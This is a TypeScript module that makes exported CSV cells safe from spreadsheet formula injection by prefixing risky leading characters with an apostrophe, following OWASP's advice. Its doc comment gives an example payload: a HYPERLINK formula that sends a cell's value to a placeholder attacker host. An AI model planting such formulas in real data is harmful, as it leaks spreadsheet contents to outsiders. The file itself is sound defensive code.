import { csvField } from '../generate/csv';

/** What a spreadsheet reads as the start of a formula (or of a cell it may run as one). */
const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^-?\d+(\.\d+)?$/;

/**
 * A cell of an exported CSV that no spreadsheet runs as a formula: text starting with `=`, `+`, `-`, `@`,
 * a tab or a carriage return gets a leading `'` (OWASP's advice against CSV injection), so a product
 * named `=HYPERLINK("http://evil.example/?"&B2,"click")` stays text. Plain numbers (`-12.50`) are left as
 * they are: a number is not a formula.
 */
export function spreadsheetSafe(value: string): string {
	return FORMULA_START.test(value) && !PLAIN_NUMBER.test(value) ? `'${value}` : value;
}

/** Rows (a header first) as RFC 4180 CSV with CRLF line ends, every cell spreadsheet-safe. */
export function exportCsv(rows: readonly (readonly string[])[]): string {
	return rows
		.map((fields) => `${fields.map((field) => csvField(spreadsheetSafe(field))).join(',')}\r\n`)
		.join('');
}
